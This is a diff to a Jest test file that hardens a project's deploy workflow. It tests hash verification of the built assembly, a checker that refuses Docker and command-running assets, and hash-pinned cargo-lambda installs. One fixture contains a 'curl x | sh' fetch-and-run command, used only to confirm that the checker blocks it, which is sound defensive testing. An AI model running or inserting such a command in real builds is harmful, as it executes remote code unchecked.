@@ -1,4 +1,6 @@
+import { spawnSync } from 'child_process';
 import * as fs from 'fs';
+import * as os from 'os';
 import * as path from 'path';
 import { parse } from 'yaml';
 
@@ -98,6 +100,40 @@ describe('GitHub workflows', () => {
     expect(node?.with?.['package-manager-cache']).toBe(false);
   });
 
+  test('the deploy job deploys only the assembly the build job packed, and only if publishing runs nothing', () => {
+    const wf = workflow('deploy.yml') as Workflow & { jobs: Record<string, Job & { outputs?: Record<string, string> }> };
+    expect(wf.jobs.build.outputs?.['assembly-sha256']).toBe('${{ steps.pack.outputs.sha256 }}');
+    const runs = (wf.jobs.deploy.steps ?? []).map((s) => s.run ?? '');
+    const verify = runs.findIndex((r) => r.includes('sha256sum --check'));
+    const unpack = runs.findIndex((r) => r.includes('tar -xzf'));
+    const check = runs.findIndex((r) => r.includes('node cdk/scripts/check-assembly.mjs cdk/cdk.out'));
+    const deploy = runs.findIndex((r) => r.includes('cdk deploy'));
+    expect(verify).toBeGreaterThanOrEqual(0);
+    expect([verify <= unpack, unpack <= check, check < deploy]).toEqual([true, true, true]);
+  });
+
+  test('check-assembly refuses docker images and file assets that run a command, and passes plain files', () => {
+    const script = path.join(__dirname, '../scripts/check-assembly.mjs');
+    const run = (files: Record<string, unknown>, dockerImages: Record<string, unknown> = {}) => {
+      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'imagegen-assembly-'));
+      try {
+        fs.writeFileSync(path.join(dir, 'Imagegen.assets.json'), JSON.stringify({ version: '48.0.0', files, dockerImages }));
+        const result = spawnSync(process.execPath, [script, dir], { encoding: 'utf8' });
+        return { status: result.status, stderr: result.stderr };
+      } finally {
+        fs.rmSync(dir, { recursive: true, force: true });
+      }
+    };
+    const plain = { abc: { source: { path: 'asset.abc', packaging: 'zip' }, destinations: {} } };
+    expect(run(plain).status).toBe(0);
+    const command = run({ ...plain, evil: { source: { executable: ['sh', '-c', 'curl x | sh'] }, destinations: {} } });
+    expect(command.status).toBe(1);
+    expect(command.stderr).toContain('file asset evil runs a command while publishing');
+    const docker = run(plain, { img: { source: { directory: 'asset.img' }, destinations: {} } });
+    expect(docker.status).toBe(1);
+    expect(docker.stderr).toContain('docker image asset img');
+  });
+
   test('the build job has no OIDC token and hands over the assembly', () => {
     const build = workflow('deploy.yml').jobs.build;
     expect(build.permissions).toEqual({ contents: 'read' });
@@ -120,10 +156,15 @@ describe('GitHub workflows', () => {
     }
   });
 
-  test('cargo-lambda is installed at one pinned version everywhere (scripts/install-tools.sh\'s)', () => {
+  test('cargo-lambda is installed at one pinned version everywhere, by hash (scripts/requirements/cargo-lambda.txt)', () => {
     const installTools = fs.readFileSync(path.join(ROOT, 'scripts/install-tools.sh'), 'utf8');
-    const pinned = /cargo-lambda==([\w.]+)/.exec(installTools)?.[1];
+    expect(installTools).toMatch(/pip install [^\n]*--require-hashes \\\n\s*-r "[^\n]*requirements\/cargo-lambda\.txt"/);
+    const requirements = fs.readFileSync(path.join(ROOT, 'scripts/requirements/cargo-lambda.txt'), 'utf8');
+    const pinned = /^cargo-lambda==([\w.]+) \\\n\s+--hash=sha256:[0-9a-f]{64}/m.exec(requirements)?.[1];
     expect(pinned).toMatch(/^\d+\.\d+\.\d+$/);
+    // Every requirement is pinned (==) with at least one hash, as --require-hashes demands.
+    const requirementLines = requirements.split('\n').filter((l) => /^[a-z]/i.test(l));
+    for (const line of requirementLines) expect(line).toMatch(/^[\w.-]+==[\w.]+ \\$/);
     const sources = [
       ...files.map((f) => [`.github/workflows/${f}`, text(f)]),
       ['cdk/scripts/synth.sh', fs.readFileSync(path.join(__dirname, '../scripts/synth.sh'), 'utf8')],
